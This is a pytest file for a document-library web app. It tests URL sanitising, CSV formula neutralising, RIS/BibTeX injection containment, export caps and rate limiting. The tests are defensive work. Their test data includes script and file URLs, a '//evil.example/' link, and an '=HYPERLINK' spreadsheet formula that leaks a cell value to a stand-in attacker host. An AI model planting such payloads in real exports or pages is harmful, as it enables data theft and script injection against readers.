"""Issue 16: nothing imported makes a page fail, and nothing served (CSV, RIS, BibTeX, links)
can be turned against its readers. Real store, real index, the app's own routes."""

from __future__ import annotations

import csv
import io
import shutil

import bibtexparser
import pytest
import rispy
from lxml import html as lxml_html

from indexer.index import build_index
from indexer.paths import Paths
from library.app import create_app
from library.escaping import csv_cell, safe_url

from . import hostile
from .conftest import ROOT


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    shutil.copytree(ROOT / "sources", root / "sources")
    hostile.write(root / "sources")
    paths = Paths(seeds=ROOT / "seeds", sources=root / "sources", home=root / "var")
    build_index(paths.sources, paths.index)
    return create_app(paths, prepare_index=False).test_client()


@pytest.mark.parametrize("doc_id", sorted(hostile.DOCUMENTS))
def test_every_hostile_document_page_answers_200(client, doc_id):
    r = client.get(f"/doc/{doc_id}")
    assert r.status_code == 200, r.text[:300]
    assert client.get(f"/api/doc/{doc_id}").status_code == 200


def test_a_script_url_never_becomes_a_link(client):
    page = lxml_html.fromstring(client.get("/doc/hostile-js").text)
    hrefs = [a.get("href", "") for a in page.iter("a")]
    assert hrefs and not [h for h in hrefs if "javascript" in h.lower()]


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JavaScript:alert(1)",
                                 "java\tscript:alert(1)", " javascript:x", "data:text/html,x",
                                 "vbscript:x", "file:///etc/passwd", "//evil.example/"])
def test_only_http_https_and_mailto_are_links(url):
    assert safe_url(url) == ""


@pytest.mark.parametrize("url", ["http://a.example/", "https://a.example/x?y=1",
                                 "mailto:a@b.example", "/doc/x", "#p1"])
def test_web_and_site_urls_stay_links(url):
    assert safe_url(url) == url


def test_the_csv_export_neutralises_formulas(client):
    r = client.get("/search/export.csv?q=Zanzibarite")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    formula = [row for row in rows if row["doc_id"] == "hostile-formula"]
    assert formula, rows[:2]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert formula[0]["title"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert formula[0]["author"] == "'@SUM(1+1)"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_that_start_a_formula_are_prefixed(value):
    assert csv_cell(value) == "'" + value and csv_cell(3) == 3 and csv_cell("Stalin") == "Stalin"


@pytest.mark.parametrize("doc_id", sorted(hostile.DOCUMENTS))
def test_one_document_gives_one_ris_record_and_one_bibtex_entry(client, doc_id):
    ris = client.get(f"/doc/{doc_id}/cite.ris").text
    (record,) = rispy.loads(ris)
    assert record["type_of_reference"] == "GEN" or record["type_of_reference"] == "PCOMM"
    library = bibtexparser.parse_string(client.get(f"/doc/{doc_id}/cite.bib").text)
    assert not library.failed_blocks
    (entry,) = library.entries
    assert entry.key == doc_id
    assert set(entry.fields_dict) <= {"title", "author", "year", "month", "date", "journal",
                                      "publisher", "url", "language", "note", "copyright"}


def test_injected_fields_stay_inside_their_value(client):
    (record,) = rispy.loads(client.get("/doc/hostile-ris/cite.ris").text)
    assert "ER - TY - JOUR" in record["notes"][0] and record["title"] == "A letter"
    (entry,) = bibtexparser.parse_string(client.get("/doc/hostile-bib/cite.bib").text).entries
    assert "INJECTED" in entry["language"] and "INJECTED" not in entry["note"]


def test_the_result_set_exports_one_record_per_document(client):
    ris = rispy.loads(client.get("/search/export.ris?q=Zanzibarite").text)
    assert len(ris) == len(hostile.DOCUMENTS)
    library = bibtexparser.parse_string(client.get("/search/export.bib?q=Zanzibarite").text)
    assert len(library.entries) == len(hostile.DOCUMENTS) and not library.failed_blocks


def test_exports_stop_at_the_row_cap_and_say_so(client, monkeypatch):
    monkeypatch.setenv("LIBRARY_EXPORT_ROWS", "3")
    text = client.get("/search/export.csv?q=Stalin").text
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + 3 + 1 and rows[-1][0].startswith("# cut:")
    assert len(rispy.loads(client.get("/search/export.ris?q=Stalin").text)) == 3
    bib = bibtexparser.parse_string(client.get("/search/export.bib?q=Stalin").text)
    assert len(bib.entries) == 3


def test_expensive_routes_answer_429_with_retry_after_past_the_limit(tmp_path, monkeypatch):
    """One client cannot crowd out the others: past the burst, a 429 that says when to come
    back; another address is served; the count is shared by every worker (one SQLite file)."""
    monkeypatch.setenv("LIBRARY_RATE_BURST", "3")
    monkeypatch.setenv("LIBRARY_RATE_PER_MINUTE", "0.06")  # one a 1,000 s: no refill in the test
    paths = Paths(seeds=ROOT / "seeds", sources=ROOT / "sources", home=tmp_path / "var")
    build_index(paths.sources, paths.index)
    one, two = create_app(paths, prepare_index=False), create_app(paths, prepare_index=False)
    me = {"REMOTE_ADDR": "203.0.113.7"}
    statuses = [app.test_client().get("/timeline", environ_base=me).status_code
                for app in (one, two, one, two)]
    assert statuses == [200, 200, 200, 429]  # two "workers", one count
    r = one.test_client().get("/api/trace?q=blind+kittens", environ_base=me)
    assert r.status_code == 200  # each kind of route has its own count
    r = two.test_client().get("/search/export.csv?q=Stalin", environ_base=me)
    assert r.status_code == 200
    r = one.test_client().get("/graph", environ_base=me)
    assert r.status_code == 429 and 1 <= int(r.headers["Retry-After"]) <= 1000
    other = one.test_client().get("/timeline", environ_base={"REMOTE_ADDR": "198.51.100.2"})
    assert other.status_code == 200
    assert one.test_client().get("/", environ_base=me).status_code == 200  # ordinary pages


def test_every_document_of_the_store_answers_200(client):
    ids = [p.stem for p in (ROOT / "sources").glob("*.xml")] + list(hostile.DOCUMENTS)
    bad = {i: s for i in ids if (s := client.get(f"/doc/{i}").status_code) != 200
           and i not in ("persons", "places")}  # registers: their pages
    assert bad == {}
